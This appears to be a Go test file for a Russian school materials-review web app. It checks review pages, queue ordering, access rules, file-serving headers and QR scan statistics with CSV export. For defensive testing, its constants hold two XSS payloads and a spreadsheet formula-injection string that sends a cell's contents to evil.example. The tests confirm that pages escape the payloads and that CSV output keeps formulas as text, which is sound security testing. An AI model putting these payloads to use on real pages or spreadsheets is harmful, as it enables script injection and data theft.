package app_test

import (
	"encoding/csv"
	"html"
	"net/http"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/pocketbase/dbx"
	"github.com/pocketbase/pocketbase/core"
	"github.com/pocketbase/pocketbase/tests"
	"github.com/pocketbase/pocketbase/tools/filesystem"

	"github.com/kopilka/kopilka/internal/ru"
	"github.com/kopilka/kopilka/internal/schema"
	"github.com/kopilka/kopilka/internal/testkit"
)

// Hostile text a teacher or a curator could type, which every page must
// show as text and every CSV as data.
const (
	hostileTitle   = `<script>alert("title")</script> Дроби и проценты`
	hostileComment = `<img src=x onerror=alert(1)> Добавьте лист самооценки`
	formulaTitle   = `=HYPERLINK("http://evil.example/?"&A1;"Нажмите")`
)

// saveRecord saves a record of collection with fields straight to the
// database, as a seed would, and fails the test when it cannot.
func saveRecord(t *testing.T, a core.App, collection string, fields map[string]any) *core.Record {
	t.Helper()
	c, err := a.FindCollectionByNameOrId(collection)
	if err != nil {
		t.Fatal(err)
	}
	rec := core.NewRecord(c)
	for k, v := range fields {
		rec.Set(k, v)
	}
	if err := a.Save(rec); err != nil {
		t.Fatalf("save %s: %v", collection, err)
	}
	return rec
}

// backdate sets the date field (created or updated) of rec to ago before
// now, as if it had been saved then.
func backdate(t *testing.T, a core.App, rec *core.Record, field string, ago time.Duration) time.Time {
	t.Helper()
	at := time.Now().Add(-ago).UTC()
	_, err := a.DB().NewQuery("UPDATE " + rec.Collection().Name + " SET " + field + " = {:at} WHERE id = {:id}").
		Bind(dbx.Params{"at": at.Format("2006-01-02 15:04:05.000Z"), "id": rec.Id}).Execute()
	if err != nil {
		t.Fatal(err)
	}
	return at
}

// sentAgo makes rec look sent for review ago: a submitted item's last
// change is its sending.
func sentAgo(t *testing.T, a core.App, rec *core.Record, ago time.Duration) time.Time {
	t.Helper()
	return backdate(t, a, rec, "updated", ago)
}

// underReview is a submitted material of two authors of school A with a
// PDF and a text file, a hostile title and an earlier decision asking for
// changes with a hostile comment; sent three days ago.
func underReview(t *testing.T, a *tests.TestApp) (*core.Record, time.Time) {
	t.Helper()
	pdf, err := filesystem.NewFileFromBytes(testkit.MinimalPDF, "Конспект урока.pdf")
	if err != nil {
		t.Fatal(err)
	}
	txt, err := filesystem.NewFileFromBytes([]byte(strings.Repeat("Задание на дроби.\n", 200)), "Задания.txt")
	if err != nil {
		t.Fatal(err)
	}
	m := saveRecord(t, a, schema.Materials, map[string]any{"title": hostileTitle, "type": "lesson-plan", "status": schema.StatusSubmitted,
		"authors": []string{fixture.IDs["tA1"], fixture.IDs["tA2"]}, "organization": fixture.IDs["orgA"],
		"subjects": []string{"математика", "информатика"}, "levels": []string{"ooo", "soo"},
		"body": "## Ход урока\n\nРешаем задачи.", "files": []any{pdf, txt}})
	rv := saveRecord(t, a, schema.Reviews, map[string]any{"material": m.Id, "reviewer": fixture.IDs["curator"], "decision": "changes_requested",
		"comment": hostileComment, "relevance": 2, "quality": 2, "reproducibility": 1, "presentation": 3})
	backdate(t, a, rv, "created", 10*24*time.Hour)
	return m, sentAgo(t, a, m, 3*24*time.Hour+2*time.Hour)
}

// nobr is a school's name as the pages show it, «№» bound to its number.
func nobr(name string) string { return strings.ReplaceAll(name, "№ ", "№\u00a0") }

// between is the part of page from the first from up to the next to after it.
func between(t *testing.T, page, from, to string) string {
	t.Helper()
	i := strings.Index(page, from)
	if i < 0 {
		t.Fatalf("the page lacks %q", from)
	}
	rest := page[i:]
	if j := strings.Index(rest, to); j >= 0 {
		rest = rest[:j]
	}
	return rest
}

// The review page shows what a curator decides on: the authors with their
// school, the school, subjects, levels, type and when the material was
// sent, its files with their sizes and a frame for the PDF, the earlier
// decision in Russian with its comment and reviewer, and what each score
// of the rubric means beside its choice.
func TestReviewPageShowsWhatTheCuratorDecidesOn(t *testing.T) {
	a := fixture.App(t)
	h, _ := serve(t, a)
	m, sent := underReview(t, a)
	curator := newBrowser(t, h)
	curator.login("curator")
	rec := curator.get("/app/review/" + m.Id)
	if rec.Code != http.StatusOK {
		t.Fatalf("the review page: %d", rec.Code)
	}
	page := rec.Body.String()
	files := m.GetStringSlice("files")
	var pdfStored, txtStored string
	for _, f := range files {
		if strings.HasSuffix(f, ".pdf") {
			pdfStored = f
		} else {
			txtStored = f
		}
	}
	loc := corpusSettings(t).Location
	for _, want := range []string{
		"Иванова Анна Петровна (" + nobr("МБОУ СОШ № 1") + ")", "Петрова Вера Ильинична (" + nobr("МБОУ СОШ № 1") + ")",
		"<dt>Организация</dt><dd>" + nobr("МБОУ СОШ № 1") + "</dd>",
		"математика, информатика", "Основное общее образование; Среднее общее образование",
		"<dd>Конспект урока (занятия)</dd>",
		ru.Date(sent.In(loc)) + " · <strong>ждёт 3 дня</strong>",
		">Конспект урока.pdf</a> <span class=\"hint\">(" + ru.FileSize(int64(len(testkit.MinimalPDF))) + ")</span>",
		">Задания.txt</a> <span class=\"hint\">(" + ru.FileSize(int64(200*len("Задание на дроби.\n"))) + ")</span>",
		`<iframe src="/app/review/` + m.Id + `/files/` + pdfStored + `" title="Просмотр файла Конспект урока.pdf"`,
	} {
		if !strings.Contains(page, want) {
			t.Errorf("the review page lacks %q", want)
		}
	}
	if strings.Contains(page, `<iframe src="/app/review/`+m.Id+`/files/`+txtStored) {
		t.Error("a text file is framed as if it were a PDF")
	}

	past := between(t, page, `<h2 id="past">`, "</section>")
	reviewed := ru.Date(time.Now().Add(-10 * 24 * time.Hour).In(loc))
	for _, want := range []string{"Решение: вернуть на доработку", html.EscapeString(hostileComment), reviewed + " · curator · 8 из 12 баллов"} {
		if !strings.Contains(past, want) {
			t.Errorf("the earlier decision lacks %q:\n%s", want, past)
		}
	}
	if strings.Contains(past, "changes_requested") {
		t.Errorf("the earlier decision shows its code:\n%s", past)
	}

	for _, c := range []string{"relevance", "quality", "reproducibility", "presentation"} {
		fieldset := between(t, page, `<legend>`+ru.RubricCriteria[c]+`</legend>`, "</fieldset>")
		for i, meaning := range ru.RubricLevels[c] {
			n := strconv.Itoa(i + 1)
			// the radio inside its label, with what the score means
			want := `<label class="choice"><input type="radio" name="` + c + `" value="` + n + `"><span><strong>` + n + `</strong> — ` + meaning + `</span></label>`
			if !strings.Contains(fieldset, want) {
				t.Errorf("%s %s: the rubric lacks %q", c, n, want)
			}
		}
	}
}

// A practice's review page names it a practice and its author with the
// author's school.
func TestPracticeReviewPageNamesItsAuthors(t *testing.T) {
	a := fixture.App(t)
	h, _ := serve(t, a)
	curator := newBrowser(t, h)
	curator.login("curator")
	page := curator.get("/app/review/practices/" + fixture.IDs["prSubA1"]).Body.String()
	for _, want := range []string{"<dd>Практика</dd>", "<dt>Автор</dt><dd>Иванова Анна Петровна (" + nobr("МБОУ СОШ № 1") + ")</dd>",
		`<input type="radio" name="relevance" value="3">`, "Заключений ещё не было."} {
		if !strings.Contains(page, want) {
			t.Errorf("the practice's review page lacks %q", want)
		}
	}
}

// A title or a comment with markup reaches the review page, the queue and
// the route list as text.
func TestReviewScreensEscapeHostileText(t *testing.T) {
	a := fixture.App(t)
	h, _ := serve(t, a)
	m, _ := underReview(t, a)
	saveRecord(t, a, schema.Routes, map[string]any{"teacher": fixture.IDs["tA2"], "theme": hostileTitle, "status": "active"})
	curator := newBrowser(t, h)
	curator.login("curator")
	for _, path := range []string{"/app/review/" + m.Id, "/app/review", "/app/iom"} {
		page := curator.get(path).Body.String()
		if strings.Contains(page, `<script>alert("title")`) || strings.Contains(page, "<img src=x") {
			t.Errorf("%s: hostile text reaches the page as markup", path)
		}
		if !strings.Contains(page, html.EscapeString(`<script>alert("title")</script>`)) {
			t.Errorf("%s: the hostile title is not shown as text", path)
		}
	}
}

// A material's file reaches the curator through the review's route: a PDF
// inline and framable by our own pages only, any other file as a download
// no page may frame; no one but a curator gets either.
func TestReviewFilesInlineOnlyPDFsOnlyForCurators(t *testing.T) {
	a := fixture.App(t)
	h, _ := serve(t, a)
	m, _ := underReview(t, a)
	var pdfStored, txtStored string
	for _, f := range m.GetStringSlice("files") {
		if strings.HasSuffix(f, ".pdf") {
			pdfStored = f
		} else {
			txtStored = f
		}
	}
	base := "/app/review/" + m.Id + "/files/"
	cases := []struct {
		name, actor, file string
		code              int
		disposition, csp  string // prefixes and parts expected
		frame             string
	}{
		{"the curator reads the PDF inline", "curator", pdfStored, 200, "inline;", "frame-ancestors 'self'", "SAMEORIGIN"},
		{"the curator downloads the text file", "curator", txtStored, 200, "attachment;", "frame-ancestors 'none'", "DENY"},
		{"a file the material does not have", "curator", "nope.pdf", 404, "", "", ""},
		{"the author may not use the curator's route", "teacherA1", pdfStored, 403, "", "", ""},
		{"the school's deputy may not either", "editorA", pdfStored, 403, "", "", ""},
		{"a stranger is sent to sign in", "anonymous", pdfStored, 303, "", "", ""},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			b := newBrowser(t, h)
			if c.actor != "anonymous" {
				b.login(c.actor)
			}
			rec := b.get(base + c.file)
			if rec.Code != c.code {
				t.Fatalf("%d, want %d", rec.Code, c.code)
			}
			if c.code != 200 {
				if strings.Contains(rec.Body.String(), "%PDF") {
					t.Error("the refusal carries the file")
				}
				return
			}
			hd := rec.Header()
			if got := hd.Get("Content-Disposition"); !strings.HasPrefix(got, c.disposition) || !strings.Contains(got, "filename*=UTF-8''") {
				t.Errorf("Content-Disposition %q, want %s…", got, c.disposition)
			}
			if got := hd.Get("Content-Security-Policy"); !strings.Contains(got, c.csp) {
				t.Errorf("Content-Security-Policy %q lacks %q", got, c.csp)
			}
			if got := hd.Get("X-Frame-Options"); got != c.frame {
				t.Errorf("X-Frame-Options %q, want %q", got, c.frame)
			}
			if hd.Get("X-Content-Type-Options") != "nosniff" {
				t.Error("the type may be sniffed")
			}
		})
	}
	curator := newBrowser(t, h)
	curator.login("curator")
	if rec := curator.get(base + pdfStored); rec.Header().Get("Content-Type") != "application/pdf" || rec.Body.String() != string(testkit.MinimalPDF) {
		t.Errorf("the PDF arrives as %q with %d bytes", rec.Header().Get("Content-Type"), rec.Body.Len())
	}
}

// The queue puts what has waited longest first, or the newest first when
// asked, and says how long each has waited in Russian.
func TestReviewQueueOrdersByWaitingTime(t *testing.T) {
	a := fixture.App(t)
	h, _ := serve(t, a)
	sub, err := a.FindRecordById(schema.Materials, fixture.IDs["matSubA1"])
	if err != nil {
		t.Fatal(err)
	}
	sentAgo(t, a, sub, 21*24*time.Hour+time.Hour)
	waits := map[string]time.Duration{"Очередь: неделя": 10 * 24 * time.Hour, "Очередь: три дня": 3 * 24 * time.Hour, "Очередь: вчера": 24*time.Hour + time.Hour, "Очередь: сейчас": time.Hour}
	for title, ago := range waits {
		m := saveRecord(t, a, schema.Materials, map[string]any{"title": title, "type": "article", "status": schema.StatusSubmitted,
			"authors": []string{fixture.IDs["tB"]}, "organization": fixture.IDs["orgB"]})
		sentAgo(t, a, m, ago+time.Hour)
	}
	oldest := []string{"Материал matSubA1", "Очередь: неделя", "Очередь: три дня", "Очередь: вчера", "Очередь: сейчас"}
	newest := []string{"Очередь: сейчас", "Очередь: вчера", "Очередь: три дня", "Очередь: неделя", "Материал matSubA1"}
	curator := newBrowser(t, h)
	curator.login("curator")
	for _, c := range []struct {
		name, query string
		order       []string
	}{
		{"the longest waiting first by default", "", oldest},
		{"the longest waiting first when asked", "?sort=oldest", oldest},
		{"the newest first when asked", "?sort=newest", newest},
		{"an unknown order is the default", "?sort=random", oldest},
	} {
		t.Run(c.name, func(t *testing.T) {
			page := curator.get("/app/review" + c.query).Body.String()
			last := -1
			for _, title := range c.order {
				i := strings.Index(page, ">"+title+"</a>")
				if i < 0 {
					t.Fatalf("the queue lacks %q", title)
				}
				if i < last {
					t.Errorf("%q is out of order", title)
				}
				last = i
			}
		})
	}
	page := curator.get("/app/review").Body.String()
	for title, want := range map[string]string{"Материал matSubA1": "ждёт 21 день", "Очередь: неделя": "ждёт 10 дней",
		"Очередь: три дня": "ждёт 3 дня", "Очередь: вчера": "ждёт 1 день", "Очередь: сейчас": "ждёт меньше дня"} {
		if row := between(t, page, ">"+title+"</a>", "</tr>"); !strings.Contains(row, "<strong>"+want+"</strong>") {
			t.Errorf("%s: want %q in\n%s", title, want, row)
		}
	}
	if !strings.Contains(page, `<option value="newest">Сначала новые</option>`) {
		t.Error("the queue offers no order by the newest")
	}
}

// The days an item waits are counted in Russian plural forms.
func TestWaitingInRussianPlurals(t *testing.T) {
	for days, want := range map[int]string{0: "ждёт меньше дня", 1: "ждёт 1 день", 2: "ждёт 2 дня", 5: "ждёт 5 дней",
		11: "ждёт 11 дней", 14: "ждёт 14 дней", 21: "ждёт 21 день", 22: "ждёт 22 дня", 111: "ждёт 111 дней", 104: "ждёт 104 дня"} {
		if got := ru.Waiting(days); got != want {
			t.Errorf("Waiting(%d) = %q, want %q", days, got, want)
		}
	}
}

// The route list names each route's teacher, the teacher's school, its
// mentor and its status: every school's for the curator, the own
// school's only for a deputy director, who cannot read a private mentor
// of another school and is told the profile is hidden.
func TestRouteListNamesPeople(t *testing.T) {
	a := fixture.App(t)
	h, _ := serve(t, a)
	saveRecord(t, a, schema.Routes, map[string]any{"teacher": fixture.IDs["tA2"], "theme": "Тема ИОМ A2", "mentor": fixture.IDs["tPrivB"], "status": "completed"})
	type card struct{ theme, teacher, school, mentor, status string }
	a1 := card{"Тема ИОМ A1", "Иванова Анна Петровна", "МБОУ СОШ № 1", "Петрова Вера Ильинична", "Реализуется"}
	b := card{"Тема ИОМ B", "Сидоров Борис Олегович", "МБОУ СОШ № 2", "без наставника", "Реализуется"}
	cases := []struct {
		actor   string
		shown   []card
		missing []string
	}{
		{"curator", []card{a1, b, {"Тема ИОМ A2", "Петрова Вера Ильинична", "МБОУ СОШ № 1", "Скрытова Дина Романовна", "Завершён"}}, nil},
		{"editorA", []card{a1, {"Тема ИОМ A2", "Петрова Вера Ильинична", "МБОУ СОШ № 1", "наставник (профиль скрыт)", "Завершён"}},
			[]string{"Тема ИОМ B", "Сидоров Борис Олегович", "Скрытова Дина Романовна"}},
		{"editorB", []card{b}, []string{"Тема ИОМ A1", "Тема ИОМ A2"}},
	}
	for _, c := range cases {
		t.Run(c.actor, func(t *testing.T) {
			br := newBrowser(t, h)
			br.login(c.actor)
			page := br.get("/app/iom").Body.String()
			for _, want := range c.shown {
				got := between(t, page, ">"+want.theme+"</a>", "</li>")
				for _, part := range []string{
					`<strong class="teacher">` + want.teacher + `</strong>`, `<span class="school">, ` + nobr(want.school) + `</span>`,
					`<span class="mentor">` + want.mentor + `</span>`, `<strong class="route-status">` + want.status + `</strong>`,
				} {
					if !strings.Contains(got, part) {
						t.Errorf("%s: the card lacks %q:\n%s", want.theme, part, got)
					}
				}
			}
			for _, absent := range c.missing {
				if strings.Contains(page, absent) {
					t.Errorf("the list shows %q", absent)
				}
			}
		})
	}
}

// scanScene adds scans to the fixture's: two items of two schools (one
// titled as a formula) and an event, on days of the last month and one
// long before; it returns the days it used, as YYYY-MM-DD.
func scanScene(t *testing.T, a *tests.TestApp) (today, fiveAgo, longAgo string, hostile *core.Record) {
	t.Helper()
	loc := corpusSettings(t).Location
	now := time.Now().In(loc)
	day := func(back int) string { return now.AddDate(0, 0, -back).Format(time.DateOnly) }
	today, fiveAgo, longAgo = day(0), day(5), day(40)
	hostile = saveRecord(t, a, schema.Materials, map[string]any{"title": formulaTitle, "type": "article", "status": schema.StatusPublished,
		"authors": []string{fixture.IDs["tB"]}, "organization": fixture.IDs["orgB"]})
	pub, err := a.FindRecordById(schema.Materials, fixture.IDs["matPubA1"])
	if err != nil {
		t.Fatal(err)
	}
	ev, err := a.FindRecordById(schema.Events, fixture.IDs["evB"])
	if err != nil {
		t.Fatal(err)
	}
	scan := func(rec *core.Record, org, on string, n int) {
		saveRecord(t, a, schema.QRScans, map[string]any{"code": rec.GetString("qr_code"), "day": on, "count": n,
			"target_collection": rec.Collection().Name, "target_id": rec.Id, "organization": org})
	}
	// the fixture counts matPubA1's code on 2026-11-20 already, and a
	// code has one row a day
	for on, n := range map[string]int{day(1): 4, fiveAgo: 2} {
		if on != "2026-11-20" {
			scan(pub, fixture.IDs["orgA"], on, n)
		}
	}
	scan(hostile, fixture.IDs["orgB"], today, 7)
	scan(hostile, fixture.IDs["orgB"], longAgo, 100)
	scan(ev, fixture.IDs["orgB"], fiveAgo, 5)
	return today, fiveAgo, longAgo, hostile
}

// scansIn sums the counts of the scan records of the period, by item
// ("collection/id"), by organization and in all.
func scansIn(t *testing.T, a core.App, from, to string) (map[string]int, map[string]int, int) {
	t.Helper()
	rows, err := a.FindAllRecords(schema.QRScans, dbx.Between("day", from, to))
	if err != nil {
		t.Fatal(err)
	}
	items, orgs, total := map[string]int{}, map[string]int{}, 0
	for _, r := range rows {
		items[r.GetString("target_collection")+"/"+r.GetString("target_id")] += r.GetInt("count")
		orgs[r.GetString("organization")] += r.GetInt("count")
		total += r.GetInt("count")
	}
	return items, orgs, total
}

// barCount is the number shown on the bar of the line labelled label.
func barCount(t *testing.T, list, label string) int {
	t.Helper()
	line := between(t, list, label, "</li>")
	n, err := strconv.Atoi(between(t, line, `<span class="bar-count">`, "</span>")[len(`<span class="bar-count">`):])
	if err != nil {
		t.Fatalf("%s: no count in\n%s", label, line)
	}
	return n
}

// The scan counts of the last 30 days by item, school and day, as the
// records have them.
func TestScansPageCountsByItemSchoolAndDay(t *testing.T) {
	a := fixture.App(t)
	h, _ := serve(t, a)
	today, fiveAgo, longAgo, hostile := scanScene(t, a)
	loc := corpusSettings(t).Location
	from := time.Now().In(loc).AddDate(0, 0, -29).Format(time.DateOnly)
	items, orgs, total := scansIn(t, a, from, today)
	curator := newBrowser(t, h)
	curator.login("curator")
	rec := curator.get("/app/scans")
	if rec.Code != http.StatusOK {
		t.Fatalf("/app/scans: %d", rec.Code)
	}
	page := rec.Body.String()
	if !strings.Contains(page, `value="`+from+`"`) || !strings.Contains(page, `value="`+today+`"`) {
		t.Errorf("the default period is not the last 30 days, %s to %s", from, today)
	}
	if !strings.Contains(page, "Всего сканирований за период: <strong>"+strconv.Itoa(total)+"</strong>") {
		t.Errorf("the total is not %d", total)
	}
	byItem := between(t, page, `id="by-item"`, "</section>")
	for _, c := range []struct {
		label string
		key   string
	}{
		{`<a href="/app/materials/` + fixture.IDs["matPubA1"] + `">Материал matPubA1</a>`, "materials/" + fixture.IDs["matPubA1"]},
		{`<a href="/app/materials/` + hostile.Id + `">` + html.EscapeString(formulaTitle) + `</a>`, "materials/" + hostile.Id},
		{`<a href="/app/events/` + fixture.IDs["evB"] + `">Событие evB</a>`, "events/" + fixture.IDs["evB"]},
	} {
		if got := barCount(t, byItem, c.label); got != items[c.key] {
			t.Errorf("%s: %d scans, the records have %d", c.label, got, items[c.key])
		}
	}
	bySchool := between(t, page, `id="by-school"`, "</section>")
	for name, org := range map[string]string{"МБОУ СОШ № 1": fixture.IDs["orgA"], "МБОУ СОШ № 2": fixture.IDs["orgB"]} {
		if got := barCount(t, bySchool, `<span class="bar-label">`+nobr(name)+`</span>`); got != orgs[org] {
			t.Errorf("%s: %d scans, the records have %d", name, got, orgs[org])
		}
	}
	byDay := between(t, page, `id="by-day"`, "</section>")
	if n := strings.Count(byDay, "<li>"); n != 30 {
		t.Errorf("the chart has %d days, want 30", n)
	}
	day := func(s string) string {
		d, _ := time.ParseInLocation(time.DateOnly, s, loc)
		return strconv.Itoa(d.Day()) + " " + ru.MonthsGenitive[d.Month()-1] + ", "
	}
	for _, on := range []string{today, fiveAgo} {
		_, _, want := scansIn(t, a, on, on)
		if got := barCount(t, byDay, `<span class="bar-label">`+day(on)); got != want {
			t.Errorf("%s: %d scans, the records have %d", on, got, want)
		}
	}
	if strings.Contains(byDay, `<span class="bar-label">`+day(longAgo)) {
		t.Error("the chart shows a day before the period")
	}
	// a chosen period takes the old scans in
	page = curator.get("/app/scans?from=" + longAgo + "&to=" + today).Body.String()
	_, _, all := scansIn(t, a, longAgo, today)
	if !strings.Contains(page, "Всего сканирований за период: <strong>"+strconv.Itoa(all)+"</strong>") {
		t.Errorf("the chosen period's total is not %d", all)
	}
	if rec := curator.get("/app/scans?from=" + today + "&to=" + longAgo); rec.Code != http.StatusUnprocessableEntity || !strings.Contains(rec.Body.String(), ru.WebBadPeriod) {
		t.Errorf("a period ending before it starts: %d", rec.Code)
	}
}

// The CSV downloads of the scan counts add up to the records, and a title
// that is a formula stays text.
func TestScansCSVTotalsMatchTheRecords(t *testing.T) {
	a := fixture.App(t)
	h, _ := serve(t, a)
	today, _, longAgo, hostile := scanScene(t, a)
	items, orgs, total := scansIn(t, a, longAgo, today)
	curator := newBrowser(t, h)
	curator.login("curator")
	for _, c := range []struct {
		by    string
		width int // cells a line
		key   func(row []string) (string, bool)
		want  map[string]int
	}{
		{"item", 5, func(row []string) (string, bool) {
			if strings.TrimPrefix(row[2], "'") == formulaTitle {
				return "materials/" + hostile.Id, true
			}
			return "", false
		}, items},
		{"school", 2, func(row []string) (string, bool) {
			switch row[0] {
			case "МБОУ СОШ № 1":
				return fixture.IDs["orgA"], true
			case "МБОУ СОШ № 2":
				return fixture.IDs["orgB"], true
			}
			return "", false
		}, orgs},
		{"day", 2, func(row []string) (string, bool) { return "", false }, nil},
	} {
		t.Run(c.by, func(t *testing.T) {
			rec := curator.get("/app/scans.csv?by=" + c.by + "&from=" + longAgo + "&to=" + today)
			if rec.Code != http.StatusOK || !strings.HasPrefix(rec.Header().Get("Content-Disposition"), "attachment") {
				t.Fatalf("%d %q", rec.Code, rec.Header().Get("Content-Disposition"))
			}
			r := csv.NewReader(strings.NewReader(strings.TrimPrefix(rec.Body.String(), "\xef\xbb\xbf")))
			r.Comma = ';'
			rows, err := r.ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			if len(rows) < 3 {
				t.Fatalf("rows: %v", rows)
			}
			body, last := rows[1:len(rows)-1], rows[len(rows)-1]
			if last[0] != ru.ScansTotal || last[len(last)-1] != strconv.Itoa(total) {
				t.Errorf("the total line %v, the records have %d", last, total)
			}
			sum := 0
			for _, row := range body {
				if len(row) != c.width {
					t.Fatalf("a line of %d cells: %v", len(row), row)
				}
				n, err := strconv.Atoi(row[len(row)-1])
				if err != nil {
					t.Fatalf("not a count: %v", row)
				}
				sum += n
				if key, ok := c.key(row); ok && n != c.want[key] {
					t.Errorf("%v: the records have %d", row, c.want[key])
				}
			}
			if sum != total {
				t.Errorf("the lines add up to %d, the records to %d", sum, total)
			}
			for _, row := range rows {
				for _, cell := range row {
					if cell != "" && strings.ContainsRune("=+@\t\r", rune(cell[0])) {
						t.Errorf("a cell a spreadsheet takes for a formula: %q", cell)
					}
				}
			}
			if c.by == "item" && !strings.Contains(rec.Body.String(), "'"+formulaTitle[:10]) {
				t.Error("the formula title is not kept as text")
			}
		})
	}
}

// Only curators read the scan counts.
func TestScansRefuseNonCurators(t *testing.T) {
	a := fixture.App(t)
	h, _ := serve(t, a)
	for _, actor := range []string{"teacherA1", "editorA"} {
		b := newBrowser(t, h)
		b.login(actor)
		for _, path := range []string{"/app/scans", "/app/scans.csv?by=item"} {
			if rec := b.get(path); rec.Code != http.StatusForbidden || strings.Contains(rec.Body.String(), "Сканирований") {
				t.Errorf("%s GET %s: %d", actor, path, rec.Code)
			}
		}
		if strings.Contains(b.get("/app/").Body.String(), `href="/app/scans"`) {
			t.Errorf("%s is offered the scans", actor)
		}
	}
	curator := newBrowser(t, h)
	curator.login("curator")
	if !strings.Contains(curator.get("/app/").Body.String(), `<a href="/app/scans">Сканирования</a>`) {
		t.Error("the curator's menu lacks the scans")
	}
}
